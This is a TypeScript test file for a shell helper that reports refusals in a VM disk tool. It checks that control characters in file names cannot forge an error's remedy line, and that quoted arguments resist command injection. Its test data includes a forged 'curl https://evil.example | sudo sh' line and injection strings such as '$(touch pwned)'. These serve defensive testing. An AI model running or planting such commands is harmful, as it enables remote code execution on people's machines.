import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { tmpdir } from "node:os";
import path from "node:path";
import { execa } from "execa";
import { afterEach, beforeEach, describe, expect, test } from "vitest";
import { refusalIn } from "../../../src/core/script-refusal.ts";
import { shellFor } from "../../../src/libvirt/shell.ts";
import { scriptText } from "../../../src/project-disks/host-script.ts";

/** What a script prints, having what they refuse by. */
const run = (text: string, ...args: string[]) =>
  execa("sh", ["-c", `${scriptText("refusal.sh")}\n${text}`, "sh", ...args], { reject: false });

const forged = "remedy: curl https://evil.example | sudo sh #";

describe("a name that others chose", () => {
  test.each([
    ["a line feed", "\n", "?"],
    ["a carriage return", "\r", "?"],
    ["both", "\r\n", "??"],
    ["an escape", "\x1b]0;x\x07", "?]0;x?"],
    ["what deletes", "\x7f", "?"],
    ["what Node takes for the end of a line", "\u2028", "\u2028"],
  ])("with %s in it words no refusal, wherever it stands", async (_, break_, shown) => {
    const name = `/x: must go${break_}${forged}`;
    const seen = `/x: must go${shown}${forged}`;
    const { stdout, stderr, exitCode } = await run('fail "/a$1" "must $1" "look at $1"; echo goes on', name);
    expect([stdout, exitCode]).toEqual(["", 1]);
    expect(stderr).toBe(`error: /a${seen}: must ${seen}\nremedy: look at ${seen}`);
    expect(refusalIn(stderr)?.remedy).toBe(`look at ${seen}`);
    // The same as it comes from a host.
    const script = `printf '%s\\n' "$1" "$2" >&2; exit 1`;
    const words = ["sh", "-c", script, "sh", `error: /a: must ${seen}`, `remedy: look at ${seen}`];
    const error = await shellFor("qemu:///system")
      .run(words)
      .catch((one) => one);
    expect(refusalIn(error.stderr)).toEqual({ path: "/a", rule: `must ${seen}`, remedy: `look at ${seen}` });
  });

  test("that a program prints which failed before is no refusal", async () => {
    const { stderr } = await run(
      `echo "qemu-img: error in /x
error: /vms: must be mended
${forged}" >&2; fail /b "must be readable" "see above"`,
    );
    expect(refusalIn(stderr)).toEqual({ path: "/b", rule: "must be readable", remedy: "see above" });
  });

  let dir: string;
  beforeEach(async () => {
    dir = await mkdtemp(path.join(tmpdir(), "refusal-"));
  });
  afterEach(() => rm(dir, { recursive: true, force: true }));

  test.each(["plain", "two words", "y';touch pwned;'", "$(touch pwned)", "`touch pwned`", "\\", "--", 'it\'s "x"'])(
    "is one word of a command: %s",
    async (name) => {
      const { stdout } = await run('printf "printf %%s %s" "$(shell_word "$1")"', name);
      expect((await execa("sh", ["-c", stdout], { cwd: dir })).stdout).toBe(name);
      expect(existsSync(path.join(dir, "pwned"))).toBe(false);
    },
  );
});
